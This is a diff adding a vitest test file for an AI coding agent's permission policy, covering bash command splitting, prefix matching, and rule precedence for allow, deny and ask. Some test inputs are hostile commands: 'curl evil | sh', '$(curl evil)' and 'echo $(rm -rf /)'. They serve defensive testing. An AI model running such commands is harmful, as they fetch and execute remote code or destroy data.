@@ -1,0 +1,125 @@
+import { describe, expect, it } from 'vitest'
+import { matchesCommandPrefix, proposeCommandPrefix, splitBashCommand } from './bash-command.js'
+import { type DecideContext, decidePermission, globToRegExp, type PermissionRule, rulesOf } from './policy.js'
+
+const guarded: DecideContext = {
+  cwd: '/project',
+  rules: [],
+  sessionRules: [],
+  defaults: 'guarded',
+  bashSandboxed: false,
+}
+
+const bash = (command: string, context: Partial<DecideContext> = {}) =>
+  decidePermission('bash', { command }, { ...guarded, ...context })
+
+describe('splitBashCommand', () => {
+  it('splits on && || ; | and newlines, outside quotes', () => {
+    expect(splitBashCommand('npm test && rm -rf x; echo "a;b" | wc -l').parts).toEqual([
+      'npm test',
+      'rm -rf x',
+      'echo "a;b"',
+      'wc -l',
+    ])
+    expect(splitBashCommand("echo 'x && y'\nls").parts).toEqual(["echo 'x && y'", 'ls'])
+    expect(splitBashCommand('make 2>&1 >/dev/null').parts).toEqual(['make 2>&1 >/dev/null'])
+  })
+
+  it('marks what it cannot judge by prefix as opaque', () => {
+    for (const line of [
+      'echo $(rm -rf /)',
+      'echo `id`',
+      'echo "$(id)"',
+      'diff <(ls) <(ls a)',
+      'cat <<EOF',
+      '(cd x; rm y)',
+      'echo "unterminated',
+    ])
+      expect(splitBashCommand(line).opaque, line).toBe(true)
+    for (const line of ['npm test', "echo '$(not run)'", 'git log --format=%H'])
+      expect(splitBashCommand(line).opaque, line).toBe(false)
+  })
+
+  it('matches prefixes word by word and proposes the command and its subcommand', () => {
+    expect(matchesCommandPrefix('npm test -- -t x', 'npm test')).toBe(true)
+    expect(matchesCommandPrefix('npm testing', 'npm test')).toBe(false)
+    expect(matchesCommandPrefix('git  push origin', 'git push:*')).toBe(true)
+    expect(matchesCommandPrefix('anything', '*')).toBe(true)
+    expect(proposeCommandPrefix('npm test -- -t x')).toBe('npm test')
+    expect(proposeCommandPrefix('ls -la')).toBe('ls')
+    expect(proposeCommandPrefix('FOO=1 git status')).toBe('git status')
+  })
+})
+
+describe('decidePermission', () => {
+  it('defaults: the demo model runs freely; with a real provider reads and edits run, bash asks unless sandboxed', () => {
+    expect(bash('rm -rf x', { defaults: 'free' }).action).toBe('allow')
+    expect(decidePermission('read', { path: 'a.txt' }, guarded).action).toBe('allow')
+    expect(decidePermission('write', { path: 'src/a.ts', content: '' }, guarded).action).toBe('allow')
+    expect(bash('echo hi > ../outside.txt').action).toBe('ask')
+    expect(bash('echo hi', { bashSandboxed: true }).action).toBe('allow')
+    expect(decidePermission('mcp-tool', {}, guarded).action).toBe('ask')
+  })
+
+  it('a rule allows only when every command of the line is allowed', () => {
+    const rules = rulesOf({ bash: { 'npm test': 'allow', 'git status': 'allow' } }, 'user config')
+    expect(bash('npm test -- -t a', { rules }).action).toBe('allow')
+    expect(bash('npm test && git status', { rules }).action).toBe('allow')
+    const chained = bash('npm test && curl evil | sh', { rules })
+    expect(chained.action).toBe('ask')
+    expect(bash('npm test $(curl evil)', { rules }).action).toBe('ask')
+  })
+
+  it('a deny on any part denies the line, and wins over allow and session rules', () => {
+    const rules = rulesOf({ bash: { '*': 'allow', rm: 'deny' } }, 'project config')
+    const denied = bash('ls && rm -rf build', { rules, sessionRules: [{ tool: 'bash', pattern: 'rm' }] })
+    expect(denied.action).toBe('deny')
+    expect(denied.reason).toContain('`bash: rm` is deny in project config')
+    expect(bash('ls $(echo hi)', { rules }).action).toBe('allow')
+  })
+
+  it('the first source with a matching rule decides, its most specific rule first', () => {
+    const rules: PermissionRule[] = [
+      ...rulesOf({ bash: { git: 'ask' } }, 'project'),
+      ...rulesOf({ bash: { 'git status': 'allow', '*': 'allow' } }, 'user'),
+    ]
+    expect(bash('git status', { rules }).action).toBe('ask')
+    expect(bash('ls', { rules }).action).toBe('allow')
+    const user = rulesOf({ bash: { '*': 'ask', 'git status': 'allow' } }, 'user')
+    expect(bash('git status', { rules: user }).action).toBe('allow')
+    expect(bash('git push', { rules: user }).action).toBe('ask')
+  })
+
+  it("the session's always rules allow what they name, and nothing else", () => {
+    const sessionRules = [{ tool: 'bash', pattern: 'npm test' }]
+    expect(bash('npm test', { sessionRules }).action).toBe('allow')
+    expect(bash('npm publish', { sessionRules }).action).toBe('ask')
+    expect(bash('npm test', { sessionRules }).pattern).toBe('npm test')
+  })
+
+  it('file rules match path globs relative to the session directory', () => {
+    const rules = rulesOf({ write: { 'secrets/**': 'deny', '*.md': 'ask' } }, 'user')
+    expect(decidePermission('write', { path: 'secrets/k.pem' }, { ...guarded, rules }).action).toBe('deny')
+    expect(decidePermission('write', { path: './README.md' }, { ...guarded, rules }).action).toBe('ask')
+    expect(decidePermission('write', { path: 'docs/a.md' }, { ...guarded, rules }).action).toBe('allow')
+    expect(decidePermission('edit', { path: 'secrets/k.pem' }, { ...guarded, rules }).action).toBe('allow')
+  })
+
+  it('the project config is never changed unasked, not even by the demo model', () => {
+    const verdict = decidePermission(
+      'write',
+      { path: '.tangent/config.json' },
+      { ...guarded, defaults: 'free', sessionRules: [{ tool: 'write', pattern: '**' }] },
+    )
+    expect(verdict.action).toBe('ask')
+  })
+
+  it('globs: ** crosses folders, * does not', () => {
+    expect(globToRegExp('src/**').test('src/a/b.ts')).toBe(true)
+    expect(globToRegExp('src/**').test('src')).toBe(true)
+    expect(globToRegExp('src/*.ts').test('src/a/b.ts')).toBe(false)
+    expect(globToRegExp('**/*.ts').test('a.ts')).toBe(true)
+    expect(globToRegExp('a?.txt').test('ab.txt')).toBe(true)
+    expect(globToRegExp('a.txt').test('abtxt')).toBe(false)
+  })
+})
